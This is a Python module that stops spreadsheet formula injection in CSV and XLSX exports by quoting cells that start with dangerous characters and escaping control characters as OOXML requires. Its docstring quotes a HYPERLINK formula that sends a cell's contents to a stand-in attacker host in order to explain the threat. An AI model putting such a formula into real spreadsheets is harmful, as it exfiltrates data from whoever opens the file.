"""Text cells that a spreadsheet never runs as a formula (CSV and XLSX, formula injection).

A spreadsheet takes a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
for a formula: ``=HYPERLINK("https://evil.example/?"&A1;"Click")`` in a cooperation's name would
run on the computer of whoever opens the export. As OWASP recommends for CSV, such a text is
written with a ``'`` before it, which spreadsheets show as text; in a workbook the cell is also
written as a string cell, never a formula.

The data package must give back the exact text on import, so the quote is added by one rule and
removed by its exact inverse:

- ``neutralise`` adds one ``'`` before a text that starts with any number of ``'`` (none
  included) followed by a dangerous character: ``=1`` → ``'=1``, ``'=1`` → ``''=1``;
- ``unneutralise`` removes one ``'`` from a text that starts with one or more ``'`` followed by
  a dangerous character: ``'=1`` → ``=1``, ``''=1`` → ``'=1``; any other text is left as it is
  (``'tis``, ``'`` alone, ``-5`` written by hand).

So ``unneutralise(neutralise(text)) == text`` for every text (tests/core/test_spreadsheets.py).
"""

from __future__ import annotations

import re

DANGEROUS = "=+-@\t\r"
QUOTE = "'"
_NEEDS_QUOTE = re.compile(r"\A'*[=+\-@\t\r]")
_QUOTED = re.compile(r"\A'+[=+\-@\t\r]")
# A workbook's XML cannot hold most control characters, and XML readers turn a carriage return
# into a line feed: OOXML writes such a character as _xHHHH_ (its code in hex), and an
# underscore that would start such a sequence as _x005F_ (ECMA-376, ST_Xstring).
_OOXML_ESCAPE = re.compile(r"_(?=x[0-9A-Fa-f]{4}_)|[\x00-\x08\x0b-\x1f]")
_OOXML_ESCAPED = re.compile(r"_x([0-9A-Fa-f]{4})_")


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet shows it without running it."""
    return QUOTE + text if _NEEDS_QUOTE.match(text) else text


def unneutralise(text: str) -> str:
    """The text that ``neutralise`` was given."""
    return text[1:] if text[:1] == QUOTE and _QUOTED.match(text) else text


def ooxml_escape(text: str) -> str:
    """``text`` as a workbook's string holds it (tab and line feed stay as they are)."""
    return _OOXML_ESCAPE.sub(lambda match: f"_x{ord(match.group()):04X}_", text)


def ooxml_unescape(text: str) -> str:
    """The text a workbook's string stands for."""
    if "_x" not in text:
        return text
    return _OOXML_ESCAPED.sub(lambda match: chr(int(match.group(1), 16)), text)


def string_cell(cell, text: str):
    """Put ``text`` in an openpyxl ``cell`` as a neutralised string cell (never a formula, an
    error code such as ``#N/A``, or a number); the cell."""
    cell.value = ooxml_escape(neutralise(text))
    cell.data_type = "s"
    return cell


def write_only_text(sheet, text: str):
    """What to append to a write-only ``sheet`` for ``text``: the neutralised text itself, which
    openpyxl binds to a string cell (it never starts with ``=``), or a string cell made for it
    when openpyxl would take it for an error code (``#N/A``). A plain value is much quicker to
    write than a cell, and most texts are plain."""
    value = ooxml_escape(neutralise(text))
    if value[:1] == "#":
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.cell.cell import ERROR_CODES

        if value in ERROR_CODES:
            return string_cell(WriteOnlyCell(sheet), text)
    return value
